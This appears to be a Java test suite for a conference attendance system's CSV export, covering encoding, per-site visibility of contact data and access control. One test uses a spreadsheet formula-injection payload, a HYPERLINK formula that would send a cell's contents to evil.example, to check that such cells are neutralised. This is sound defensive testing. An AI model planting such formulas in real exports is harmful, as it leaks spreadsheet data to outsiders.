package bridgepoint.attendance;

import bridgepoint.support.Api;
import bridgepoint.support.Api.Setup;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ExtractableResponse;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;

import static bridgepoint.support.Api.asOrganizer;
import static bridgepoint.support.Api.problem;
import static bridgepoint.support.Attendance.batch;
import static bridgepoint.support.Attendance.checkIn;
import static bridgepoint.support.Attendance.checkInMe;
import static bridgepoint.support.Attendance.current;
import static bridgepoint.support.Attendance.entry;
import static bridgepoint.support.Attendance.scheduled;
import static bridgepoint.support.Attendance.scheduledNow;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The attendance list as CSV: UTF-8 with a BOM, one row per delegate, the same data the API shows. */
@QuarkusTest
class AttendanceCsvTest {

    private static final List<String> HEADER = List.of(
            "fullName",
            "title",
            "organization",
            "email",
            "phone",
            "assignedSite",
            "checkedInSite",
            "checkedInAt",
            "method",
            "recordedBy",
            "movedFromSite");
    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    private static String csvPath(Setup s) {
        return s.path() + "/attendance.csv";
    }

    private static Map<String, Object> delegateBody(
            String fullName, String title, String organization, String email, String phone, String siteId) {
        Map<String, Object> body = new HashMap<>();
        body.put("fullName", fullName);
        body.put("title", title);
        body.put("organization", organization);
        body.put("email", email);
        body.put("phone", phone);
        body.put("siteId", siteId);
        return body;
    }

    private static Map<String, Object> register(Setup s, Map<String, Object> body) {
        return asOrganizer()
                .body(body)
                .post(s.path() + "/delegates")
                .then()
                .statusCode(201)
                .extract()
                .jsonPath()
                .getMap("");
    }

    /** The file's rows, each as column → value, checking the BOM and the header on the way. */
    private static List<Map<String, String>> rows(byte[] file) throws IOException {
        assertTrue(file.length >= 3, "an empty file");
        assertArrayEquals(BOM, Arrays.copyOf(file, 3), "the file starts with the UTF-8 byte-order mark");
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.startsWith(String.join(",", HEADER) + "\r\n"), text);
        try (CSVParser parser = CSVParser.parse(
                new StringReader(text),
                CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            assertEquals(HEADER, parser.getHeaderNames());
            return parser.getRecords().stream().map(CSVRecord::toMap).toList();
        }
    }

    private static byte[] download(String token, Setup s) {
        ExtractableResponse<Response> r =
                Api.as(token).get(csvPath(s)).then().statusCode(200).extract();
        assertTrue(r.contentType().startsWith("text/csv"), r.contentType());
        assertTrue(
                r.header("Content-Disposition").matches("attachment; filename=\"[^\"]+\\.csv\""),
                r.header("Content-Disposition"));
        return r.asByteArray();
    }

    /** What the row of a delegate must say, from the delegate and its current check-in as the API shows them. */
    private static Map<String, String> expectedRow(Setup s, Map<String, Object> delegate) {
        Map<String, String> row = new LinkedHashMap<>();
        row.put("fullName", text(delegate.get("fullName")));
        row.put("title", text(delegate.get("title")));
        row.put("organization", text(delegate.get("organization")));
        row.put("email", text(delegate.get("email")));
        // a leading '+' would make a spreadsheet compute the number: the cell is written as text (CsvCells)
        String phone = text(delegate.get("phone"));
        row.put("phone", phone.startsWith("+") ? "'" + phone : phone);
        row.put("assignedSite", siteName(delegate.get("siteId")));
        Map<String, Object> checkIn = current(s, (String) delegate.get("id"));
        Map<String, Object> none = new HashMap<>();
        Map<String, Object> c = checkIn == null ? none : checkIn;
        row.put("checkedInSite", siteName(c.get("siteId")));
        row.put("checkedInAt", text(c.get("at")));
        row.put("method", text(c.get("method")));
        row.put("recordedBy", text(c.get("recordedBy")));
        row.put("movedFromSite", siteName(c.get("movedFromSiteId")));
        return row;
    }

    private static String text(Object value) {
        return value == null ? "" : value.toString();
    }

    private static String siteName(Object siteId) {
        return siteId == null
                ? ""
                : asOrganizer()
                        .get("/api/sites/{s}", siteId)
                        .then()
                        .statusCode(200)
                        .extract()
                        .path("name");
    }

    private static Map<String, Map<String, String>> byName(List<Map<String, String>> rows) {
        Map<String, Map<String, String>> byName = new HashMap<>();
        rows.forEach(r -> byName.put(r.get("fullName"), r));
        assertEquals(rows.size(), byName.size(), "one row per delegate: " + rows);
        return byName;
    }

    @Test
    void everyDelegateHasARowWithWhatTheApiShows() throws IOException {
        Setup s = scheduledNow();
        String hostOfRemote = Api.siteHost(s.remote());
        Map<String, Object> to = register(
                s,
                delegateBody(
                        "Trần Quốc Tỏ",
                        "Trung tướng, Bộ trưởng",
                        "Bộ Công an",
                        "to.tq@bocongan.gov.vn",
                        "+84 24 3822 6602",
                        s.host()));
        Map<String, Object> nhung = register(
                s,
                delegateBody(
                        "Nguyễn Thị Hồng Nhung",
                        "Phó Trưởng ban",
                        "Ban Dân vận \"Thành ủy\", Đà Nẵng",
                        "nhung.nth@danang.gov.vn",
                        "0905 123 456",
                        s.remote()));
        Map<String, Object> ha = register(
                s,
                delegateBody(
                        "Lê Thị Thu Hà", null, "Sở Nội vụ\nTP. Đà Nẵng", "ha.ltt@danang.gov.vn", null, s.remote()));
        Map<String, Object> thang = register(s, delegateBody("Phạm Đức Thắng", null, null, null, null, s.host()));
        Map<String, Object> dao =
                register(s, delegateBody("Đặng Thị Đào", "Chuyên viên", "Văn phòng, Tỉnh ủy", null, null, s.remote()));
        Map<String, Object> thuong =
                register(s, delegateBody("Võ Văn Thưởng", null, "Ban Tuyên giáo", null, null, s.host()));

        checkIn(s, (String) to.get("id"), null).statusCode(201);
        checkIn(s, (String) nhung.get("id"), s.host()).statusCode(201);
        checkIn(Api.as(hostOfRemote), s, (String) nhung.get("id"), s.remote()).statusCode(201);
        checkInMe(Api.join((String) ha.get("joinCode")), s, null).statusCode(201);
        // an offline entry on the minute: the time keeps its seconds, as in the API
        String onTheMinute = OffsetDateTime.now(ZoneId.of(Api.ZONE))
                .minusMinutes(90)
                .truncatedTo(ChronoUnit.MINUTES)
                .format(DateTimeFormatter.ISO_OFFSET_DATE_TIME);
        batch(asOrganizer(), s, List.of(entry("csv-" + Api.unique(), (String) thang.get("id"), s.host(), onTheMinute)))
                .statusCode(200)
                .body("[0].result", equalTo("created"));
        checkIn(Api.as(hostOfRemote), s, (String) thuong.get("id"), s.remote()).statusCode(201);

        Map<String, Map<String, String>> rows = byName(rows(download(Api.organizer(), s)));

        List<Map<String, Object>> delegates = asOrganizer()
                .queryParam("size", 500)
                .get(s.path() + "/delegates")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("items");
        assertEquals(6, delegates.size());
        assertEquals(
                delegates.stream().map(d -> (String) d.get("fullName")).collect(Collectors.toSet()), rows.keySet());
        for (Map<String, Object> delegate : delegates) {
            assertEquals(expectedRow(s, delegate), rows.get((String) delegate.get("fullName")));
        }
        // spelled out for a few cells, lest the comparison hide a shared mistake
        assertEquals(
                "Ban Dân vận \"Thành ủy\", Đà Nẵng",
                rows.get("Nguyễn Thị Hồng Nhung").get("organization"));
        assertEquals("SITE_HOST", rows.get("Nguyễn Thị Hồng Nhung").get("method"));
        assertEquals(siteName(s.host()), rows.get("Nguyễn Thị Hồng Nhung").get("movedFromSite"));
        assertEquals("Sở Nội vụ\nTP. Đà Nẵng", rows.get("Lê Thị Thu Hà").get("organization"));
        assertEquals("SELF", rows.get("Lê Thị Thu Hà").get("method"));
        assertEquals(onTheMinute, rows.get("Phạm Đức Thắng").get("checkedInAt"));
        assertTrue(onTheMinute.endsWith(":00+07:00"), onTheMinute);
        assertEquals("OFFLINE", rows.get("Phạm Đức Thắng").get("method"));
        assertTrue(rows.get("Trần Quốc Tỏ").get("checkedInAt").endsWith("+07:00"));
        assertEquals("", rows.get("Đặng Thị Đào").get("checkedInAt"));
        assertEquals("", rows.get("Đặng Thị Đào").get("checkedInSite"));

        // a site host: the delegates assigned to its sites or checked in there, with the same rows, but the contact
        // data only of those registered at its sites
        Map<String, Map<String, String>> remoteRows = byName(rows(download(hostOfRemote, s)));
        assertEquals(
                Set.of("Nguyễn Thị Hồng Nhung", "Lê Thị Thu Hà", "Đặng Thị Đào", "Võ Văn Thưởng"), remoteRows.keySet());
        remoteRows.forEach((name, row) -> assertEquals(asHostSees(rows.get(name), siteName(s.remote())), row));
        Map<String, Map<String, String>> hostRows = byName(rows(download(Api.siteHost(s.host()), s)));
        assertEquals(Set.of("Trần Quốc Tỏ", "Phạm Đức Thắng", "Võ Văn Thưởng"), hostRows.keySet());
        hostRows.forEach((name, row) -> assertEquals(asHostSees(rows.get(name), siteName(s.host())), row));
    }

    /** The organizer's row as the host of {@code siteName} sees it: contact data only for delegates registered there. */
    private static Map<String, String> asHostSees(Map<String, String> row, String siteName) {
        Map<String, String> seen = new HashMap<>(row);
        if (!siteName.equals(row.get("assignedSite"))) {
            seen.put("email", "");
            seen.put("phone", "");
        }
        return seen;
    }

    @Test
    void aHostSeesNoContactDataOfADelegateItCheckedInFromAnotherSite() throws IOException {
        Setup s = scheduled();
        Map<String, Object> lan = register(
                s,
                delegateBody(
                        "Hoàng Thị Lan",
                        "Chuyên viên",
                        "Sở Tư pháp",
                        "lan.ht@danang.gov.vn",
                        "0905123456",
                        s.remote()));
        String hostOfHall = Api.siteHost(s.host());
        checkIn(Api.as(hostOfHall), s, (String) lan.get("id"), s.host()).statusCode(201);

        Map<String, String> row = byName(rows(download(hostOfHall, s))).get("Hoàng Thị Lan");
        assertEquals("Sở Tư pháp", row.get("organization"));
        assertEquals(siteName(s.host()), row.get("checkedInSite"));
        assertEquals("", row.get("email"));
        assertEquals("", row.get("phone"));
        // her own site's host and the organizers still have them
        for (String token : List.of(Api.siteHost(s.remote()), Api.organizer())) {
            Map<String, String> full = byName(rows(download(token, s))).get("Hoàng Thị Lan");
            assertEquals("lan.ht@danang.gov.vn", full.get("email"));
            assertEquals("0905123456", full.get("phone"));
        }
    }

    @Test
    void cellsThatASpreadsheetWouldTakeForFormulasAreWrittenAsText() throws IOException {
        Setup s = Api.setup();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        asOrganizer()
                .body(Map.of(
                        "fullName", formula,
                        "title", "+84 905 123 456",
                        "organization", "-Ban Dân vận",
                        "email", "ha@example.vn",
                        "siteId", s.remote()))
                .post(s.path() + "/delegates")
                .then()
                .statusCode(201);
        Map<String, String> row = rows(download(Api.organizer(), s)).get(0);
        assertEquals("'" + formula, row.get("fullName"));
        assertEquals("'+84 905 123 456", row.get("title"));
        assertEquals("'-Ban Dân vận", row.get("organization"));
        assertEquals("ha@example.vn", row.get("email"), "other cells are left as they are");
        // and the API still shows the name as given
        assertEquals(
                formula,
                asOrganizer().get(s.path() + "/delegates").then().extract().path("items[0].fullName"));
    }

    @Test
    void aConferenceWithoutDelegatesHasTheHeaderOnly() throws IOException {
        Setup s = Api.setup();
        assertEquals(List.of(), rows(download(Api.organizer(), s)));
    }

    @Test
    void delegatesAndOutsidersCannotExportIt() {
        Setup s = scheduled();
        String delegate = Api.join((String)
                Api.createDelegate(s.conference(), s.host(), "Trần Quốc Tỏ").get("joinCode"));
        Setup other = scheduled();

        problem(Api.as(delegate).get(csvPath(s)).then(), 403, "forbidden");
        problem(Api.as(Api.siteHost(other.host())).get(csvPath(s)).then(), 403, "forbidden");
        Api.unauthorized(Api.anonymous().get(csvPath(s)).then());
        problem(
                asOrganizer()
                        .get("/api/conferences/{c}/attendance.csv", UUID.randomUUID())
                        .then(),
                404,
                "not-found");
    }
}
